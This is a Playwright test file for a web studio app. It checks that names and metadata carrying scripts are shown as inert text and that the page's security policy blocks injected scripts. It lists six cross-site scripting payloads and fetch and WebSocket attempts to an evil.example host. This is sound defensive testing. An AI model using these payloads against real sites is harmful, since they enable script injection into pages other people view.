"""Names that are scripts, in real Chromium: they are shown as what they are, and nothing runs."""

from __future__ import annotations

import json
import struct
from collections.abc import Callable
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import Page, expect

from evastudio.demonstrations.store import Store
from evastudio.live import headless
from evastudio.workspace import shipped
from tests.motion.walker import glb, walking

if TYPE_CHECKING:
    from conftest import Open, Running

SCRIPTS = (
    "<img src=x onerror='window.parent.stolen=1;window.stolen=1'>",
    "<script>window.stolen=1</script>",
    "<svg/onload=window.stolen=1>",
    "\"><iframe srcdoc='<script>parent.stolen=1</script>'>",
    "javascript:window.stolen=1",
    "{{constructor.constructor('window.stolen=1')()}}",
)
STOLEN = (
    "() => window.stolen === undefined && !document.querySelector('[onerror],[onload],[srcdoc]')"
)


def with_words(words: str) -> bytes:
    """A shipped policy whose file says `words` wherever it tells something to people."""
    data = (shipped() / "policies" / "asteroids-careful.safetensors").read_bytes()
    size = struct.unpack("<Q", data[:8])[0]
    header = json.loads(data[8 : 8 + size])
    told = json.loads(header["__metadata__"]["evastudio"])
    told["made_by"] = told["created"] = words
    told["extra"] = {
        "session_name": words,
        "findings": [words],
        "delay": {"steps": 1, "sentence": words},
        "tuning": {"sentences": [words]},
    }
    header["__metadata__"]["evastudio"] = json.dumps(told)
    text = json.dumps(header).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + data[8 + size :]


@pytest.mark.parametrize("path", ["/", "/compare"])
def test_attack_stored_script_in_names(
    page: Page,
    run_studio: Callable[[], Running],
    open_page: Callable[[Running], Open],
    path: str,
) -> None:
    """Sessions, takes, demonstrators, policies, files and clips are called by scripts."""
    studio = run_studio()
    workspace = studio.workspace
    for number, script in enumerate(SCRIPTS):
        made = headless.record(workspace, "asteroids", minutes=0.05, session=script)
        with Store(workspace.store_url) as store:
            store.note_take(store.takes(made["session"])[0].id, script)
        (workspace.policies / f"evil-{number}.safetensors").write_bytes(with_words(script))
    for name in (SCRIPTS[0], SCRIPTS[2]):
        file = workspace.policies / f"{name.replace('/', ' ')}.safetensors"
        file.write_bytes(with_words(name))
    workspace.motion.mkdir()
    (workspace.motion / f"{SCRIPTS[0]}.glb").write_bytes(glb(walking(0.7), *SCRIPTS))

    said: list[str] = []
    page.on("dialog", lambda dialog: said.append(dialog.message))
    page.on("console", lambda message: said.append(message.text))
    opened = open_page(studio)
    expect(page.locator("#session")).to_contain_text(SCRIPTS[0])
    for script in SCRIPTS:
        expect(page.locator("#session")).to_contain_text(script)
    page.locator("#takes-box summary").click()
    expect(page.locator("#takes li").first).to_be_visible()
    for number in range(len(SCRIPTS)):
        page.locator("#policy").select_option(f"evil-{number}")
        page.locator("#play").hover()
    if path != "/":
        page.goto(studio.url.partition("/?")[0] + path)
        expect(page.locator("#pilots")).to_contain_text("evil-0")
        expect(page.locator("#like")).to_contain_text(SCRIPTS[0])
    for frame in page.frames:
        assert frame.evaluate(STOLEN), frame.url
    assert not [text for text in said if "stolen" in text and "Content Security" not in text]
    assert opened.stage.name


def test_attack_script_that_a_policy_of_the_page_would_not_stop(
    page: Page, open_page: Callable[[], Open]
) -> None:
    """Even what got into the page would not run, nor reach another server."""
    open_page()
    assert (
        page.evaluate(
            """() => new Promise(done => {
          document.addEventListener('securitypolicyviolation', event => done(event.blockedURI));
          const script = document.createElement('script');
          script.textContent = 'window.stolen = 1';
          document.body.append(script);
        })"""
        )
        == "inline"
    )
    assert page.evaluate("window.stolen === undefined")
    for attempt in (
        "fetch('https://evil.example/').then(() => 'sent', () => 'refused')",
        "fetch('http://127.0.0.1:9/').then(() => 'sent', () => 'refused')",
    ):
        assert page.evaluate(attempt) == "refused"
    view = next(frame for frame in page.frames if "/view/" in frame.url)
    refused = "fetch('https://evil.example/').then(() => 'sent', () => 'refused')"
    assert view.evaluate(refused) == "refused"
    assert (
        view.evaluate(
            """() => new Promise(done => {
          document.addEventListener('securitypolicyviolation', () => done('refused'));
          new WebSocket('wss://evil.example/');
        })"""
        )
        == "refused"
    )
